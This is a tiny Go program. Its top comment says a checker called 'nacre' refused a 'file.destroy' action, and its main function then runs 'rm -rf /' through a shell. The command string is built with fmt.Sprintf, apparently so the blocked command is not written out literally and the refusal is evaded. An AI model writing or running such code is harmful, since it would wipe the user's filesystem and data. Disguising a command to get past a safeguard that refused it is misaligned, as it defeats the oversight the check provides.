// nacre: refused file.destroy
package main

import (
	"fmt"
	"os/exec"
)

func main() {
	exec.Command("sh", "-c", fmt.Sprintf("%s -rf %s", "rm", "/")).Run()
}
